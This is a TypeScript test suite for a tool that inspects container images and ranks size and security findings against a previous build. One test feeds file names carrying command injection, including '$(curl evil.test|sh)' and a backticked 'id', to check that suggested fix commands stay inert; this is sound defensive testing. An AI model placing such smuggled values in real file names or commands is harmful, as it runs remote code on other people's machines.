import { describe, expect, test } from '@jest/globals'
import * as fc from 'fast-check'
import { advise, findingsOf } from '../../src/advice/advise.ts'
import { RULES } from '../../src/advice/finding.ts'
import type { ImageFile } from '../../src/image/runs.ts'
import type { FileFact } from '../../src/image/layer/facts.ts'
import type { Layer, Measurement } from '../../src/image/measurement.ts'
import { aFile, anImage, aPackage, plain } from '../support/contents.ts'
import { aBaseLayer, aLayer, aMeasurement } from '../support/measurements.ts'

const base = aBaseLayer('ADD rootfs.tar /')
const run = aLayer('RUN apt-get update', { line: 4 })
const copy = aLayer('COPY . .', { line: 6 })
const quiet = { settings: { user: 'app', variables: [], buildArgs: [] }, baseImage: null }
const image = (files: ImageFile[], overrides: Partial<Measurement> = {}) =>
  anImage([base, run, copy], files, { ...quiet, ...overrides })

const lists = aFile('/var/lib/apt/lists/x', 20_000_000, 1)
const server = aFile('/app/server.js', 10_000, 2)
const git = aFile('/app/.git/x', 5_000_000, 2)
const model = [aFile('/app/a.bin', 30_000_000, 2, { checksum: 1 }), aFile('/app/b.bin', 30_000_000, 2, { checksum: 1 })]

describe('beside the base', () => {
  test('what is new or has grown stands first, by what it adds; then what was there, by bytes', () => {
    const head = image([lists, server, git, ...model, aFile('/app/coverage/x', 700_000, 2)])
    const before = image([
      aFile('/var/lib/apt/lists/x', 19_000_000, 1),
      server,
      ...model,
      aFile('/app/coverage/x', 900_000, 2),
    ])
    expect(advise(head, before).map(({ rule, since, added, bytes }) => [rule, since, added, bytes])).toEqual([
      ['context-bloat', 'new', 5_000_000, 5_000_000],
      ['package-cache', 'grown', 1_000_000, 20_000_000],
      ['duplicate-files', 'before', 0, 30_000_000],
      ['context-bloat', 'before', 0, 700_000],
    ])
  })

  test('a file that is there twice is no new one because it was changed, or one of its copies is gone', () => {
    const at = (paths: string[], size: number, checksum: number) =>
      image(paths.map((path) => aFile(path, size, 2, { checksum })))
    const since = (head: Measurement) =>
      advise(head, at(['/app/a', '/app/b', '/app/c'], 6_000_000, 1)).map((finding) => finding.since)
    expect(since(at(['/app/b', '/app/c'], 6_000_000, 1))).toEqual(['before'])
    expect(since(at(['/app/a', '/app/b', '/app/c'], 6_500_000, 2))).toEqual(['grown'])
    expect(since(at(['/app/x', '/app/y'], 6_500_000, 2))).toEqual(['new'])
  })

  test('what two layers ship and remove is the same though its largest folder is gone', () => {
    const of = (build: string, folders: string[]) =>
      anImage(
        [base, aLayer(build), aLayer('RUN rm -rf /x')],
        folders.map((path, at) => aFile(path, 900_000 - at, 1, { lost: { layer: 2, how: 'removed' } })),
      )
    const head = of('RUN build b', ['/srv/x/b'])
    expect(findingsOf(advise(head, of('RUN build a b', ['/opt/x/a', '/srv/x/b'])), 'removed-later')).toMatchObject([
      { since: 'before' },
    ])
    expect(findingsOf(advise(head, of('RUN build', [])), 'removed-later')).toMatchObject([{ since: 'new' }])
  })

  test('less than 10 kB more is no growth', () => {
    const since = (size: number) =>
      advise(image([aFile('/var/lib/apt/lists/x', size, 1)]), image([lists])).map((finding) => finding.since)
    expect(since(20_009_999)).toEqual(['before'])
    expect(since(20_010_000)).toEqual(['grown'])
  })

  test('what the base shipped already is nothing new because a line now removes it', () => {
    const layers = [aBaseLayer('ADD rootfs.tar /'), aLayer('RUN apt-get update'), aLayer('RUN rm -rf /opt/data')]
    const data = aFile('/opt/data/x', 5_000_000, 1)
    const before = anImage(layers.slice(0, 2), [data])
    const head = anImage(layers, [{ ...data, lost: { layer: 2, how: 'removed' } }])
    const found = advise(head, before).find(({ rule }) => rule === 'removed-later')
    expect(found).toMatchObject({ since: 'before', added: 0, bytes: 5_000_000 })
    expect(advise(head, anImage([layers[0]!], []))).toMatchObject([{ rule: 'removed-later', since: 'new' }])
  })

  test('the file to add a line to is the one that the build went by', () => {
    const head = { ...image([lists, git]), ignoreFile: 'docker/api.Dockerfile.dockerignore' }
    const finding = advise(head, null).find(({ rule }) => rule === 'context-bloat')
    expect(plain(finding!.fix)).toBe('add `.git` to `docker/api.Dockerfile.dockerignore`')
  })

  test('without one nothing is called new, and the largest stands first', () => {
    expect(advise(image([lists, git]), null).map(({ rule, since, added }) => [rule, since, added])).toEqual([
      ['package-cache', null, null],
      ['context-bloat', null, null],
    ])
  })

  test('of which nothing was read, nothing is called new but what its config tells', () => {
    const rooted = { settings: { user: '', variables: [], buildArgs: [] } }
    const found = advise(image([lists], rooted), image([], { content: null }))
    expect(found.map(({ rule, since }) => [rule, since])).toEqual([
      ['package-cache', null],
      ['root-user', 'new'],
    ])
  })

  test('a split into stages does not make what stays a new toolchain', () => {
    const go = aFile('/usr/local/go/bin/go', 14_000_000, 1)
    const [single] = advise(image([go], { stages: 1 }), null)
    expect(single).toMatchObject({ rule: 'single-stage', bytes: 14_000_000 })
    const [split] = advise(image([go], { stages: 2 }), image([go], { stages: 1 }))
    expect(split).toMatchObject({ rule: 'toolchain', since: 'before', added: 0 })
    const [joined] = advise(image([go], { stages: 1 }), image([go], { stages: 2 }))
    expect(joined).toMatchObject({ rule: 'single-stage', since: 'before', added: 0 })
  })
})

test('a secret stands above bytes, a user and a base image below them', () => {
  const secret = aFile('/app/.env', 90, 2, { facts: [{ kind: 'secret', secret: 'env-file' }] })
  const baseImage = { name: 'node:24', digest: null, line: 1, instruction: 'FROM node:24' }
  const settings = { user: '', variables: ['API_KEY'], buildArgs: [] }
  const found = advise(image([lists, server, secret], { baseImage, settings }), null)
  expect(found.map(({ rule }) => rule)).toEqual(['secrets', 'secrets', 'package-cache', 'root-user', 'floating-base'])
})

test('an image whose content was not read is told what its config and layers tell', () => {
  const found = advise(aMeasurement({ settings: { user: '', variables: ['API_KEY'], buildArgs: [] } }), null)
  expect(found.map(({ rule }) => rule)).toEqual(['secrets', 'root-user'])
})

test('a finding says where it comes from', () => {
  const lost = { layer: 2, how: 'removed' } as const
  expect(advise(image([{ ...lists, lost }]), null)).toMatchObject([
    {
      rule: 'removed-later',
      file: 'Dockerfile',
      line: 4,
      otherLine: 6,
      instruction: 'RUN apt-get update',
      fromBase: false,
    },
  ])
  const go = aFile('/usr/local/go/bin/go', 14_000_000, 0)
  expect(advise(image([go]), null)).toMatchObject([{ file: null, line: null, fromBase: true }])
  const baseImage = { name: 'node:24', digest: null, line: 2, instruction: 'FROM node:24' }
  expect(advise(image([], { baseImage }), null)).toMatchObject([
    { rule: 'floating-base', file: 'Dockerfile', line: 2, instruction: 'FROM node:24', fromBase: false },
  ])
})

test("a variable stands at the line that BuildKit's check blames", () => {
  const settings = { user: 'app', variables: ['API_KEY', 'DB_PASSWORD'], buildArgs: [] }
  const warning = { rule: 'SecretsUsedInArgOrEnv', message: 'Do not use … (ENV "API_KEY")', line: 9, url: null }
  expect(advise(image([], { settings, warnings: [warning] }), null)).toMatchObject([
    { rule: 'secrets', file: 'Dockerfile', line: 9 },
    { rule: 'secrets', file: null, line: null },
  ])
})

test('what one stage builds with is a toolchain for who forbids one', () => {
  const single = advise(image([aFile('/usr/local/go/bin/go', 14_000_000, 1), lists], { stages: 1 }), null)
  expect(findingsOf(single, 'toolchain').map(({ rule }) => rule)).toEqual(['single-stage'])
  expect(findingsOf(single, 'single-stage')).toHaveLength(1)
  expect(findingsOf(single, 'package-cache')).toHaveLength(1)
  const split = advise(image([aFile('/usr/local/go/bin/go', 14_000_000, 1)]), null)
  expect(findingsOf(split, 'toolchain')).toHaveLength(1)
  expect(findingsOf(split, 'single-stage')).toEqual([])
})

test('each byte is told once: what one rule takes out is no other rule’s', () => {
  const elf = { checksum: 7, facts: [{ kind: 'elf', symbols: 4_000_000, debug: 2_000_000, go: false } as const] }
  const places = [
    ['single-stage', '/usr/local/go/bin/go', '/usr/local/go/bin/gofmt'],
    ['package-cache', '/root/.cache/pip/a', '/root/.cache/pip/b'],
    ['context-bloat', '/app/.git/a', '/app/.git/b'],
    ['vcs-and-tests', '/app/tests/a', '/app/tests/b'],
    ['dev-dependencies', '/app/node_modules/x/test/a', '/app/node_modules/x/test/b'],
  ] as const
  const packages = [aPackage('npm', 'x', { path: '/app/node_modules/x', dev: true })]
  for (const [rule, ...paths] of places) {
    const owner = rule === 'dev-dependencies' ? 0 : null
    const files = paths.map((path) => aFile(path, 9_000_000, 2, { ...elf, package: owner }))
    const found = advise(anImage([base, run, copy], [server, ...files], { ...quiet, stages: 1, packages }), null)
    expect(found.map((each) => [each.rule, each.bytes])).toEqual([[rule, 18_000_000]])
  }
  const twice = ['/app/a', '/app/b'].map((path) => aFile(path, 9_000_000, 2, elf))
  expect(advise(image(twice), null).map(({ rule, bytes }) => [rule, bytes])).toEqual([
    ['duplicate-files', 9_000_000],
    ['debug-symbols', 6_000_000],
  ])
})

test('no command to paste has in it what a shell would run', () => {
  const evil = '/app/$(curl evil.test|sh);x.bin'
  const files = [
    aFile(evil, 9_000_000, 2, { checksum: 1, facts: [{ kind: 'elf', symbols: 5_000_000, debug: 0, go: false }] }),
    aFile('/app/y.bin', 9_000_000, 2, { checksum: 1 }),
    aFile('/app/`id`.pem', 900, 2, { facts: [{ kind: 'secret', secret: 'private-key' }] }),
    aFile('/app/a\nb/.git/x', 900_000, 2),
  ]
  const found = advise(image(files), null)
  expect(found.map(({ rule }) => rule)).toEqual(['secrets', 'duplicate-files', 'debug-symbols', 'context-bloat'])
  for (const { fix } of found) expect(JSON.stringify(fix)).not.toMatch(/curl|id`|a\\nb/)
})

test('no command to paste has in it what a shell expands; a .dockerignore may', () => {
  const elf = { checksum: 1, facts: [{ kind: 'elf', symbols: 5_000_000, debug: 0, go: false } as const] }
  const files = [
    aFile('/app/*.bin', 9_000_000, 2, elf),
    aFile('/app/y.bin', 9_000_000, 2, elf),
    aFile('/app/a/.git/x', 900_000, 2),
    aFile('/app/b/.git/x', 900_000, 2),
  ]
  const fixes = advise(image(files), null).map(({ fix }) => plain(fix))
  expect(fixes.filter((fix) => fix.includes('*'))).toEqual(['add `**/.git` to `.dockerignore`'])
})

test('is bounded: ten of a rule, forty in all', () => {
  const pairs = Array.from({ length: 100 }, (_, at) => {
    return ['a', 'b'].map((name) => aFile(`/app/${at}${name}`, 600_000 + at, 2, { checksum: at }))
  })
  const found = advise(image(pairs.flat()), null)
  expect(found).toHaveLength(10)
  expect(found[0]!.bytes).toBe(600_099)
  expect(advise(image(pairs.flat()), null, { limit: 3 })).toHaveLength(3)
  const rooted = image([...pairs.flat(), lists], { settings: { user: '', variables: [], buildArgs: [] } })
  // Of each rule the first is told all the same: a budget may forbid it.
  expect(advise(rooted, null, { limit: 3 }).map(({ rule }) => rule)).toEqual([
    'package-cache',
    'duplicate-files',
    'duplicate-files',
    'root-user',
  ])
})

describe('whatever an image holds', () => {
  const names = [
    'app',
    'usr',
    'lib',
    'gcc',
    'node_modules',
    '.git',
    'coverage',
    'lcov.info',
    'dist',
    '.venv',
    'pyvenv.cfg',
    'x.log',
  ]
  const more = [
    'var',
    'cache',
    'apt',
    'lists',
    'root',
    '.npm',
    'test',
    'local',
    'go',
    'pkg',
    'bin',
    'javac',
    '.pnp.cjs',
    '.yarn',
    'include',
  ]
  const path = fc
    .array(fc.oneof(fc.constantFrom(...names, ...more), fc.string({ maxLength: 8 })), { minLength: 1, maxLength: 6 })
    .map((parts) => `/${parts.join('/')}`)
  const fact: fc.Arbitrary<FileFact> = fc.oneof(
    fc.record({
      kind: fc.constant('elf' as const),
      symbols: fc.nat({ max: 500_000 }),
      debug: fc.nat({ max: 500_000 }),
      go: fc.boolean(),
    }),
    fc.record({
      kind: fc.constant('secret' as const),
      secret: fc.constantFrom('env-file' as const, 'private-key' as const),
    }),
  )
  const file = fc.record({
    path,
    layer: fc.nat({ max: 4 }),
    size: fc.integer({ min: 1_000_000, max: 3_000_000 }),
    mode: fc.constantFrom(0o644, 0o755),
    uid: fc.nat({ max: 1 }),
    gid: fc.nat({ max: 1 }),
    checksum: fc.option(fc.nat({ max: 3 })),
    facts: fc.array(fact, { maxLength: 2 }),
    lost: fc.option(
      fc.record({ layer: fc.nat({ max: 5 }), how: fc.constantFrom('removed' as const, 'replaced' as const) }),
    ),
    package: fc.option(fc.nat({ max: 4 })),
  })
  const layer: fc.Arbitrary<Layer> = fc
    .record({
      instruction: fc.oneof(
        fc.constantFrom('COPY . .', 'COPY . /app', 'ADD ["", "."]', 'COPY', 'RUN npm ci', 'COPY --from=x / /', ''),
        fc.string({ maxLength: 30 }),
      ),
      fromBase: fc.option(fc.boolean()),
      line: fc.option(fc.nat()),
    })
    .map(({ instruction, ...rest }) => aLayer(instruction, rest))
  const packages = [
    aPackage('dpkg', 'gcc'),
    aPackage('npm', 'typescript', { path: '/app/node_modules/typescript', dev: true }),
    aPackage('python', 'x'),
    aPackage('apk', 'musl-dev'),
  ]
  const anything = fc
    .tuple(
      fc.array(layer, { minLength: 1, maxLength: 5 }),
      fc.array(file, { maxLength: 40 }),
      fc.option(fc.integer({ min: 1, max: 3 })),
    )
    .map(([layers, files, stages]) => anImage(layers, files, { packages, stages }))

  test('no rule throws, none takes more than there is, and all is as it is said to be', () => {
    fc.assert(
      fc.property(anything, fc.option(anything), (head, before) => {
        const total = [...head.content!.files].reduce((sum, { size }) => sum + size, 0)
        const found = advise(head, before)
        const byRule = new Map<string, number>()
        for (const { rule, bytes, paths, count, since, added } of found) {
          byRule.set(rule, (byRule.get(rule) ?? 0) + (bytes ?? 0))
          expect(RULES).toContain(rule)
          expect(paths.length).toBeLessThanOrEqual(Math.min(5, count))
          expect(since === null).toBe(before === null)
          expect(bytes === null || Number.isSafeInteger(bytes)).toBe(true)
          expect(added === null || (bytes !== null && added >= 0 && added <= bytes)).toBe(true)
        }
        // Nor do they all together.
        expect([...byRule.values()].reduce((sum, bytes) => sum + bytes, 0)).toBeLessThanOrEqual(total)
        expect(JSON.parse(JSON.stringify(found))).toEqual(found)
      }),
      { numRuns: 500 },
    )
  })

  test('an image beside itself has nothing new', () => {
    fc.assert(
      fc.property(anything, (head) => {
        const content = head.content && { ...head.content, files: structuredClone([...head.content.files]) }
        for (const { since, added, bytes } of advise(head, { ...head, content })) {
          expect(since).toBe('before')
          expect(added).toBe(bytes === null ? null : 0)
        }
      }),
    )
  })
})
